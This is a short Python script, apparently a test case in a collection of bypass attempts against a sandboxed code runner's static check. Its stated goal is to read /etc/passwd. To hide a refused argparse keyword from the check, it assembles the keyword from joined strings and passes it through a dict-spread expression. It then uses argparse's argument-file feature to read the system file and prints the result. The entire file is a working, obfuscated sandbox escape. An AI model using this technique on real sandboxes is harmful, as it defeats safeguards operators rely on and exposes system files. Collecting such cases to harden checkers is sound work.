# source: sandexec README, "The static check", '**NAME only where NAME is ... a dict display with literal keys' (the check reads only the name right after **); pandas/plotting/_core.py _get_plot_backend; argparse _SubParsersAction.add_parser(**kwargs) -> ArgumentParser(fromfile_prefix_chars=...) -> _read_args_from_files
# family: spread operand that starts with a trusted name (**opts | dict(...)) reaching a refused ArgumentParser keyword
# goal: reads /etc/passwd through '@/etc/passwd' as an argument file
import argparse
k = "-".join(["fromfile", "prefix", "chars"]).replace("-", "_")
target = "/".join(["", "etc", "passwd"])
p = argparse.ArgumentParser()
sub = p.add_subparsers(dest="cmd")
opts = {"description": "run the strategy"}
sub.add_parser("run", **opts | dict([(k, "@")]))
args, rest = p.parse_known_args(["run", "@" + target])
print(rest)
